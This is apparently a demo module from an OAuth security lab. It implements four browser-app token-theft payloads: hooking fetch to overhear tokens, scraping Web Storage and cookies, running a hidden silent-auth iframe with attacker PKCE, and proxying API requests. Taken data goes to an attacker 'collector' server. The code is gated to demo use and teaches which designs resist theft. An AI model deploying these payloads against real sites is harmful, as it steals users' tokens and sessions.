// DEMO ONLY: the four payloads of RFC 10017 §5.1, as malicious JavaScript running in this page would run them,
// against the architecture and storage the person chose. What they take goes to the collector (the attacker's
// server, config.collector), which uses it against the API later, also after this tab is closed, and records what
// worked (docs/browser-apps.md, "The attack table"). Without the demo options the page has no collector and its
// Content-Security-Policy lets no fetch reach one: nothing here runs.
import config from "/config.js";

export const PAYLOADS = {
  "steal-once": "§5.1.1 steal tokens once",
  "steal-persistently": "§5.1.2 steal tokens persistently",
  "new-flow": "§5.1.3 acquire new tokens with a silent flow",
  proxy: "§5.1.4 proxy requests through the open page",
};
export const enabled = () => Boolean(config.collector);
// How often the persistent payloads look again and the proxy polls (a test may shorten it before a run).
export const timing = { intervalMs: 3000, silentFlowMs: 8000 };
const TIMEOUT_MS = 5000; // every request of the payloads: a fetch must never wait forever (see client.js)
const TOKEN_FIELDS = ["access_token", "refresh_token"];

// Send one item to the collector's `POST /collect` ({run, kind, <kind>: value, labels}), which uses it at once, again
// after its delays (the tab long closed) and on demand. Its CORS is open to any page: that is the attack.
async function send(context, payload, item) {
  const body = JSON.stringify({ run: context.run, architecture: context.architecture, storage: context.storage, payload, ...item });
  try {
    const response = await fetch(`${config.collector}/collect`, { method: "POST", body, headers: { "Content-Type": "application/json" }, keepalive: true, signal: AbortSignal.timeout(TIMEOUT_MS) });
    return response.status;
  } catch {
    return 0;
  }
}

// One taken token as the collector's item: a refresh token names the public client it belongs to.
const asItem = (found) => ({ kind: found.what, [found.what]: found.token, ...(found.what === "refresh_token" ? { client_id: config.clientId } : {}) });

// Listen to the page's own fetch while `act` runs: the Authorization (and DPoP) header of its call of the API, and
// the tokens in the AS's answer to its token requests. A token in memory is a variable no script can name, yet
// every request the app makes carries it and every answer brings the next one (§8).
async function overhear(act) {
  const original = window.fetch;
  const heard = [];
  window.fetch = async function hooked(input, init = {}) {
    const url = String(input.url ?? input);
    const headers = new Headers(init.headers ?? (input instanceof Request ? input.headers : undefined));
    const authorization = headers.get("authorization");
    if (authorization && url.startsWith(config.api)) {
      const [scheme, token] = authorization.split(" ");
      heard.push({ what: "access_token", token, bound: scheme === "DPoP" });
    }
    const response = await original.apply(this, [input, init]);
    if (url.startsWith(config.issuer)) {
      const answer = await response.clone().json().catch(() => ({}));
      for (const field of TOKEN_FIELDS) if (typeof answer[field] === "string") heard.push({ what: field, token: answer[field], bound: Boolean(headers.get("dpop")) });
    }
    return response;
  };
  try {
    await act();
  } finally {
    window.fetch = original;
  }
  return heard;
}

// Everything the page exposes to a script, for this architecture and storage: [{what, token, bound}] and notes.
export async function loot({ architecture, storage }) {
  const app = await import("./browser_client.js"); // the app's own module: any script on the origin can import it
  const found = new Map();
  const notes = [];
  const take = (what, token, bound = false) => token && !found.has(token) && found.set(token, { what, token, bound });
  for (const area of [localStorage, sessionStorage]) {
    for (let i = 0; i < area.length; i += 1) {
      let value = null;
      try {
        value = JSON.parse(area.getItem(area.key(i)));
      } catch {}
      for (const field of TOKEN_FIELDS) if (value && typeof value[field] === "string") take(field, value[field], storage === "dpop");
    }
  }
  if (architecture !== "bff") {
    const heard = await overhear(() => app.callApi({ architecture, storage }));
    for (const item of heard) take(item.what, item.token, item.bound);
    if (heard.length === 0) notes.push("the page made no API call with a token");
  }
  if (architecture === "browser" && storage !== "worker" && ![...found.values()].some((item) => item.what === "refresh_token")) {
    // Not in Web Storage: make the app refresh, and read the rotated pair in the AS's answer.
    for (const item of await overhear(() => app.refresh({ architecture, storage }))) take(item.what, item.token, item.bound);
  }
  if (architecture !== "browser") {
    // The token-mediating endpoint answers any script of the page: it sends the same X-CSRF and Origin the app does.
    try {
      const response = await fetch(`${config.bff}/bff/token`, { credentials: "include", headers: { "X-CSRF": "1" }, signal: AbortSignal.timeout(TIMEOUT_MS) });
      const body = response.ok ? await response.json() : null;
      if (body?.access_token) take("access_token", body.access_token);
      else notes.push(`the BFF's /bff/token answered ${response.status}: no token for the page`);
    } catch (error) {
      notes.push(`the BFF's /bff/token: ${error.message}`);
    }
  }
  if (storage === "worker") notes.push("the refresh token is in the worker's memory: no script of the page can read it");
  if (storage === "dpop") {
    const keys = await app.dpopKeys();
    try {
      await crypto.subtle.exportKey("jwk", keys.privateKey);
      notes.push("the DPoP private key was exported");
    } catch (error) {
      notes.push(`the DPoP private key stays in the browser: ${error.name} (non-extractable)`);
    }
  }
  return { found: [...found.values()], notes };
}

// §5.1.1: take what is there once, send it, leave.
async function stealOnce(context, payload = "steal-once") {
  const { found, notes } = await loot(context);
  for (const item of found) await send(context, payload, asItem(item));
  if (context.architecture === "bff") await send(context, payload, { kind: "cookies", cookies: document.cookie, site: config.name.toLowerCase() });
  return { got: found.map((item) => item.what), notes };
}

// §5.1.2: the same, again on every change of Web Storage and on a timer, for as long as the page is open.
async function stealPersistently(context) {
  const seen = new Set();
  const got = new Set();
  let notes = [];
  const again = async () => {
    const taken = await loot(context);
    notes = taken.notes;
    for (const item of taken.found.filter((item) => !seen.has(item.token))) {
      seen.add(item.token);
      got.add(item.what);
      await send(context, "steal-persistently", asItem(item));
    }
  };
  await again();
  if (context.architecture === "bff") await send(context, "steal-persistently", { kind: "cookies", cookies: document.cookie, site: config.name.toLowerCase() });
  const setItem = Storage.prototype.setItem;
  Storage.prototype.setItem = function watched(key, value) {
    setItem.call(this, key, value);
    queueMicrotask(again);
  };
  const timer = setInterval(again, timing.intervalMs);
  const stop = () => {
    clearInterval(timer);
    Storage.prototype.setItem = setItem;
  };
  return { got: [...got], notes, stop };
}

// §5.1.3: a hidden iframe runs the app's own client's flow with `prompt=none` and the attacker's PKCE verifier; the
// code comes back to the app's redirect URI, on this origin, where the script reads it before anyone else.
async function newFlow(context) {
  const oauth = await import("./vendor/oauth4webapi.js");
  const app = await import("./browser_client.js");
  const as = await app.authorizationServer();
  // The only client this app has: a BFF's is confidential, and its code goes to the BFF's callback.
  const browser = context.architecture === "browser";
  const clientId = browser ? config.clientId : `authlab-bff-${config.name.toLowerCase()}`;
  const redirectUri = browser ? `${location.origin}/` : `${config.bff}/bff/callback`;
  // The attacker's PKCE: the collector keeps the verifier and hands out only its S256 challenge.
  const pkce = await (await fetch(`${config.collector}/pkce?${new URLSearchParams({ run: context.run })}`, { signal: AbortSignal.timeout(TIMEOUT_MS) })).json();
  const state = oauth.generateRandomState();
  const url = new URL(as.authorization_endpoint);
  url.search = new URLSearchParams({
    client_id: clientId, redirect_uri: redirectUri, response_type: "code", state, prompt: "none",
    code_challenge: pkce.code_challenge, code_challenge_method: "S256",
  });
  const frame = Object.assign(document.createElement("iframe"), { hidden: true, title: "", src: url.href });
  frame.setAttribute("aria-hidden", "true");
  document.body.append(frame);
  const answer = await new Promise((resolve) => {
    const started = Date.now();
    const look = setInterval(() => {
      let href = null;
      try {
        href = frame.contentWindow.location.href; // readable once the frame is back on this origin
      } catch {}
      const params = href?.startsWith(location.origin) ? new URL(href).searchParams : null;
      if (params?.get("state") === state || Date.now() - started > timing.silentFlowMs) {
        clearInterval(look);
        resolve(params);
      }
    }, 10);
  });
  frame.remove();
  if (answer?.get("code")) {
    await send(context, "new-flow", { kind: "code", code: answer.get("code"), client_id: clientId });
    return { got: ["code"], notes: [] };
  }
  // A frame's request to the AS carries its session cookie (SameSite=Lax) only from the AS's own site.
  const otherSite = new URL(config.issuer).hostname !== location.hostname;
  const why = answer?.get("error") === "login_required" && otherSite
    ? ` (this page is another site than the AS, so the frame's request carried no AS session cookie: it is SameSite=Lax)`
    : "";
  const note = answer?.get("error")
    ? `the AS answered ${answer.get("error")}${answer.get("error_description") ? `: ${answer.get("error_description")}` : ""}${why}`
    : browser
      ? `no code within ${timing.silentFlowMs / 1000} s: the frame never came back to this origin (the AS's session cookie did not reach it in a frame, or the AS refused to be framed)`
      : "the code went to the BFF's callback, another origin: out of this script's reach, and useless without the BFF's secret";
  return { got: [], notes: [note] };
}

// §5.1.4: the collector queues requests; the page, while open, performs each with the app's own credentials (the
// BFF's cookie, the held token, the DPoP key) and hands back the answers. Closing the tab ends it.
function proxy(context) {
  let stopped = false;
  const tick = async () => {
    if (stopped) return;
    try {
      const { commands } = await (await fetch(`${config.collector}/commands?${new URLSearchParams({ run: context.run })}`, { signal: AbortSignal.timeout(TIMEOUT_MS) })).json();
      const app = await import("./browser_client.js");
      for (const command of commands ?? []) {
        const { status, body } = await app.callApi(context, command.path.replace(/^\/api\//, ""));
        if (status) await send(context, "proxy", { kind: "proxied", status, body: body && typeof body === "object" ? body : {} });
      }
    } catch {}
    if (!stopped) setTimeout(tick, timing.intervalMs);
  };
  tick();
  const stop = () => {
    stopped = true;
  };
  return Promise.resolve({ got: [], notes: ["serving the collector's requests while this page is open"], stop });
}

const RUN = { "steal-once": stealOnce, "steal-persistently": stealPersistently, "new-flow": newFlow, proxy };
const running = [];

// Run one payload: {got: [what was taken], notes, stop?}. Tells the collector when this page goes away.
export async function runPayload(payload, context) {
  if (!enabled()) throw new Error("the malicious scripts are a demo part: off without the demo options");
  if (!RUN[payload]) throw new Error(`no payload ${payload}`);
  watchClose(context.run);
  const result = await RUN[payload](context);
  if (result.stop) running.push(result.stop);
  return result;
}

// Stop every persistent payload and the proxy of this page (a new run starts clean).
export function stopAll() {
  while (running.length) running.pop()();
}

// When this tab went away, per run (localStorage, read when the page opens again): the collector's attempts after it
// are "used after the tab closed".
export const closedAt = (run) => Number(localStorage.getItem(`authlab.browserApps.closed.${run}`)) || null;
const watched = new Set();
function watchClose(run) {
  if (watched.has(run)) return;
  watched.add(run);
  addEventListener("pagehide", () => localStorage.setItem(`authlab.browserApps.closed.${run}`, String(Date.now() / 1000)));
}

// The collector's records of a run: {run, expires_in, items: [{kind, payload, architecture, storage, attempts,
// worked_until, refused}]} (no secrets), or null when it does not answer.
export async function records(run) {
  try {
    const response = await fetch(`${config.collector}/records?${new URLSearchParams({ run })}`, { signal: AbortSignal.timeout(TIMEOUT_MS) });
    return response.ok ? await response.json() : null;
  } catch {
    return null;
  }
}
